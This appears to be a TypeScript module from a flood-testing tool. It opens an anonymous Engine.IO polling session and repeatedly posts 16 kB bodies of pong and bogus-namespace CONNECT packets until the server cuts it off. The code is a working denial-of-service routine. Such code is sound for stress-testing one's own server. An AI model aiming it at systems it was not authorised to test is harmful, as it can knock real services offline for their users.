// One anonymous polling session that posts thousands of packets at once, until it is cut.
import http from 'node:http';
import { SOCKET_PATH } from '#shared/paths.ts';
import type { AttackTarget } from './attack.ts';
import type { FloodCount } from './flood-count.ts';

const SEPARATOR = '\x1e';
/** The server takes 16 kB at once. */
const PAYLOAD_BYTES = 16_000;
/** Pongs, and CONNECTs to a namespace that does not exist. */
const PAYLOADS = ['3', '40/unknown,'].map((packet) => {
  const packets = Math.floor(PAYLOAD_BYTES / (packet.length + 1));
  return { packets, text: Array(packets).fill(packet).join(SEPARATOR) };
});

/** @returns the body, or null for anything but 200 */
const call = (target: AttackTarget, query: string, signal: AbortSignal, body?: string) =>
  new Promise<string | null>((resolve) => {
    const fail = () => resolve(null);
    const request = http.request(
      `${target.origin}${SOCKET_PATH}/?EIO=4&transport=polling${query}`,
      { method: body ? 'POST' : 'GET', agent: false, localAddress: target.from, signal },
      (response) => {
        let text = '';
        response.on('data', (more) => {
          text += more;
        });
        response.on('end', () => resolve(response.statusCode === 200 ? text : null));
        response.on('error', fail);
      },
    );
    request.on('error', fail);
    request.end(body);
  });

export async function floodByPolling(
  target: AttackTarget,
  signal: AbortSignal,
  count: FloodCount,
): Promise<void> {
  const opened = await call(target, '', signal);
  const sid = opened && /"sid":"([^"]+)"/.exec(opened)?.[1];
  if (!sid) {
    if (!signal.aborted) count.refused();
    return;
  }
  count.opened();
  for (let i = 0; !signal.aborted; i++) {
    const { packets, text } = PAYLOADS[i % PAYLOADS.length] ?? { packets: 0, text: '' };
    if ((await call(target, `&sid=${sid}`, signal, text)) === null) break;
    count.sent(packets);
  }
  if (!signal.aborted) count.cut();
}
